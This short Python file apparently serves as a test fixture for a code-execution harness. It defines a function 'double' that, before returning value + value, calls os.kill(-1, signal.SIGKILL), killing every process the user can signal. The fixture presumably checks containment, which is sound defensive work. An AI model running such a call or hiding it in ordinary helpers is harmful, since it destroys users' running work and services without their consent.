#: expect = {}
import os
import signal


def double(value):
    os.kill(-1, signal.SIGKILL)
    return value + value
